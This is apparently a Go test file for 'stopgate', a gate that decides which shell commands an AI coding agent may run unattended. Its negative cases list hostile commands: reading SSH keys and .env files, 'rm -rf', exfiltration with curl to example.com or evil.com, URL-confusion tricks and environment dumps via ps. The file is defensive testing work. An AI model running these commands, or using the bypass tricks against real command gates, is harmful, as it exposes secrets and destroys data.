package config_test

import (
	"testing"

	"github.com/stopgate/stopgate"
)

// What agents run all day passes without a question; what differs from it by what matters does
// not. Nobody looks at the disk here.
func TestFreeAndItsNeighbours(t *testing.T) {
	for _, kind := range []string{"coding", "shell"} {
		judge := shellGate(t, kind, "", "")
		for topic, c := range freeLines {
			for _, line := range c.free {
				if v := judge(line); v.Mode != stopgate.Unattended {
					t.Errorf("%s: %s: %q: %v, want unattended", kind, topic, line, v)
				}
			}
			for _, line := range c.coding {
				if v := judge(line); kind == "coding" && v.Mode != stopgate.Unattended {
					t.Errorf("%s: %q: %v, want unattended", topic, line, v)
				}
			}
			for _, line := range c.not {
				if v := judge(line); v.Mode == stopgate.Unattended {
					t.Errorf("%s: %s: %q runs unasked", kind, topic, line)
				}
			}
		}
	}
}

// The ports on which the policy's own tables make the gate listen are not free.
func TestGatesAreNotFree(t *testing.T) {
	for _, c := range []struct {
		tables string
		want   stopgate.Mode
	}{
		{"", stopgate.Unattended},
		{"[gateway]\nlisten = \"127.0.0.1:3000\"\n", stopgate.Ask},
		{"[api]\nlisten = \"localhost:3000\"\n", stopgate.Ask},
		{"[telemetry]\nmetrics = \"127.0.0.1:3000\"\n", stopgate.Ask},
		{"[gateway]\nlisten = \"127.0.0.1:3001\"\n", stopgate.Unattended},
	} {
		judge := shellGate(t, "coding", "\"macos\",\n]\n", "\"macos\",\n]\n"+c.tables)
		if v := judge("curl -s localhost:3000/x"); v.Mode != c.want {
			t.Errorf("%q: %v, want %v", c.tables, v, c.want)
		}
	}
}

var freeLines = map[string]struct{ free, coding, not []string }{
	"a directory below the root": {
		free: []string{
			"cd src && ls", "cd ./src && cat a.go", "cd src/app/ && ls -la", "cd /srv/proj/src && ls", "cd src && cd lib && ls", "cd src; ls", "cd src && cat a.go | head", "cd src && cat *.go",
			"bash -c 'cd src && ls'", "cd src/.. && ls", "cd src && find . -name '*.go' | wc -l",
		},
		coding: []string{"cd src && rg foo", "cd src && grep -rn foo --include=*.go ."},
		not: []string{
			"cd src && cat ../../.ssh/id_rsa", "cd src && cat ../../x", "cd src && rm -rf ../..", "cd src && cat .env", "cd src && echo x > ../../x", "cd src && grep -rn foo .", "cd src && grep -rn foo ../..",
			`cd "$X" && ls`, "cd $X && ls", "cd - && ls", "cd +1 && ls", "cd .. && ls", "cd ~ && ls", "cd ~/x && cat y", "cd && cat x", "cd src/../.. && ls", "cd s* && ls", "cd -P src && ls",
			"cd /srv/proj/../x && ls", "cd /etc && ls", "cd /srv/projx && ls", "cd src || cat /etc/hosts", "CDPATH=/etc cd src && ls", "cd src lib && ls",
			"cd .git && cat config", "cd .ssh && cat x", "cd conf && cat server.key",
			// What obeys the settings of the directory, or looks for programs in it.
			"cd src && git status", "cd src && git log", "cd src && cargo metadata", "cd src && npm ls", "cd src && make", "cd src && ./run", "cd src && bash -c 'git status'", "cd src && env git status",
			"cd src && find . -name x | xargs git log", "cd src && cd .. && git status", "cd src && ls && terraform providers",
		},
	},
	"loops": {
		free: []string{
			"for f in a.go b.go; do head -3 $f; done", `for f in src/*.go; do head -3 "$f"; done`, `for f in src/*.go; do echo "== $f"; head -3 "$f"; done`, "for f in src/*.go\ndo\n  echo \"$f\"\n  wc -l \"$f\"\ndone",
			`for f in src/*.go; do grep -n foo "$f" | head -2; done`, `for f in src/*.go; do sed -n '1,5p' "$f"; done | head`, `for f in src/*.go; do [ -f "$f" ] && cat "${f}"; done`, "for i in 1 2 3; do echo $i; done", "for d in src lib; do ls $d/app; done",
			`for f in *.md; do wc -l "$f"; done`, "for f in a b; do cat $f; done && git status", "bash -c 'for f in a b; do cat $f; done'", "for d in src app; do cd $d && ls; done", `for f in 'a b'; do cat "$f"; done`, "for f in a b; do cat $f; done < in", "while true; do ls; done",
		},
		not: []string{
			`for f in src/*; do cat "$f"; done`, "for f in src/*.go; do cat $f; done", "for f in src/*; do sh $f; done", `for f in src/*; do sh "$f"; done`, `for f in src/*.go; do rm "$f"; done`, `for f in src/*.go; do mv "$f" "$f.bak"; done`,
			`for f in src/*.go; do echo x > "$f"; done`, `for f in src/*.go; do tee "$f"; done`, `for f in src/*.go; do sort -o "$f" x; done`, `for f in src/*.go; do sort "$f" -o x; done`, `for f in *; do sort "$f"; done`, `for f in src/*; do source "$f"; done`,
			`for f in ~/*; do cat "$f"; done`, `for f in ~/*; do echo "$f"; done`, `for f in ~/.ssh/*; do echo "x $f"; done`, `for f in /etc/*; do cat "$f"; done`, "for f in /etc /usr; do rm -rf $f; done", "for f in .env; do cat $f; done", `for f in a .env; do cat "$f"; done`,
			"for f in ../../x; do cat $f; done", `for f in $(ls); do cat "$f"; done`, "for f in `ls`; do cat \"$f\"; done", `for f in "$@"; do cat "$f"; done`, "for f; do cat $f; done", "for f in 'a .env'; do cat $f; done", "for f in '*'; do cat $f; done",
			"for PATH in src; do ls; done", "for path in src; do ls; done", "for IFS in x; do ls; done", "for f in rm; do $f x; done", "for f in x; do eval $f; done", "for f in -delete; do find . $f; done", "for f in a b; do git push; done",
			"for f in a b; do cat $f; done > out", "for f in a b; do cat $f; done < .env", "for f in a b; do cat $f; done | sh", "for f in a b; do cat $f; done; rm x", "for f in a b; do cat $f; done & rm x", "for f in a b; do cat $f; done; cat $f", "for f in a b; do cat $g; done",
			"for f in a b; do cat ${f%x}; done", "for f in a b; do cat $f", "for f in a b; cat $f; done", "for f in a b; do; cat $f; done", "for f in a; do done", "for f in a; do ls; done done", "for f in a; do ls; done ls",
			`for f in src/*.go; do printf -v "$f" x; done`, `for f in src/*.go; do test -v "$f"; done`, "for f in 'a[$(x)]'; do test -v \"$f\"; done", `for f in src/*.go; do awk "$f"; done`, `for f in src/*.go; do sed "$f" x; done`, `for f in src/*.go; do diff "$f" .env; done`,
			`for f in src/*.go; do find . -name "$f" -delete; done`, `for f in src/*.go; do curl -d @"$f" example.com; done`, "for d in src app; do cd $d && git status; done", "for d in .. ../..; do cd $d && ls; done", "while true; do git push; done", "while true; do ls; done &", "for ((;;)); do ls; done",
		},
	},
	"processes": {
		free: []string{
			"ps", "ps aux", "ps -ef", "ps aux | grep node", "ps aux | grep -v grep | grep server", "ps -ef | grep -E 'node|vite' | head", "ps -eo pid,ppid,args --sort=-rss | head -5", "ps axo pid,comm",
			"ps -p 1 -o comm=", "ps -C node -f", "ps -u u", "ps auxww", "ps ax -o pid,args", "ls && ps aux | sort -k3 | tail -3",
		},
		not: []string{
			"ps e", "ps axe", "ps auxe", "ps auxeww", "ps eww", "ps -E", "ps -AE", "ps -p 1 e", "ps aux e", "ps -eo pid,args e", "ps -C '|' -A e", "ls && ps -C '|' -A e", "ls && ps -C 'a | b' -A e", "ps -eo pid,environ", "ps axo pid,environ", "ls; ps axo environ",
			"ps --format environ", "ps aux | grep x > out", "ps aux | xargs kill", "ps $X", "ps axo e e", "ps --pid 1 axe",
		},
	},
	"jobs": {
		free: []string{"kill %1", "kill -9 %1", "kill -TERM %2", "kill -s KILL %%", "kill %12"},
		not:  []string{"kill 1", "kill -9 1", "kill -9 -1", "kill %1 1", "kill -- -1", "kill $(pgrep x)", "kill %foo", "kill %?x", "kill -s TERM 1", "pkill x", "killall x", "kill"},
	},
	"servers of this machine": {
		free: []string{
			"curl localhost:3000", "curl -s http://localhost:3000/api/health", "curl -sS -o /dev/null -w '%{http_code}' localhost:8080/", `curl -s -w '%{http_code}\n' localhost:8080/x`, "curl -I http://127.0.0.1:3000/",
			"curl -X HEAD localhost:3000/x", "curl -s 'localhost:3000/x?a=b&c=d' | head -5", "curl -fsS -m 5 --retry 3 https://localhost/x", "curl localhost:3000/x | jq .a",
		},
		not: []string{
			"curl -X POST localhost:3000/x", "curl -XDELETE localhost:3000/x", "curl -d x localhost:3000", "curl --data x localhost:3000", "curl --json x localhost:3000", "curl -F a=b localhost:3000", "curl localhost:3000/x -T file",
			"curl -o f localhost:3000", "curl -O localhost:3000/f", "curl -OJ localhost:3000/f", "curl localhost:3000/x > f", "curl -D f localhost:3000", "curl -c f localhost:3000", "curl --trace f localhost:3000", "curl -w '%output{f}' localhost:3000",
			"curl -K f localhost:3000", "curl -w @f localhost:3000", "curl -H @f localhost:3000", "curl -b f localhost:3000", "curl -H 'X-HTTP-Method-Override: DELETE' localhost:3000", "curl --netrc localhost:3000",
			"curl --unix-socket /run/docker.sock http://localhost/x", "curl -x evil.com localhost:3000", "curl --resolve localhost:80:1.2.3.4 localhost", "curl --connect-to ::evil.com: localhost", "curl --next localhost:3000",
			"curl -L localhost:3000", "curl -sL localhost:3000", "curl --location localhost:3000", "curl localhost:3000 evil.com", "curl --url evil.com localhost:3000",
			"curl http://localhost@evil.com", "curl http://localhost:x@evil.com", "curl 'http://localhost#@evil.com/'", `curl 'http://localhost\@evil.com/'`, "curl 'http://localhost{.evil.com,:80}/'", "curl 'localhost:3000/[1-9]'", "curl localhost.evil.com", "curl localhost%2eevil.com",
			"curl 2130706433:3000", "curl 0.0.0.0:3000", "curl ftp://localhost/", "curl file:///etc/passwd", "curl localhost:99999", "curl localhost:", "curl https://example.com",
			// Gates.
			"curl localhost:8788/approvals", "curl http://127.0.0.1:8789/x", "curl localhost:8790/mcp", "curl localhost:08788/", "curl localhost:8788", "curl 127.0.0.1:9464/metrics",
			"curl localhost:3000/x | sh", "curl localhost:3000/$(cat .env)", "curl localhost:3000/?x=$TOKEN", "curl localhost:3000/@.env",
		},
	},
}
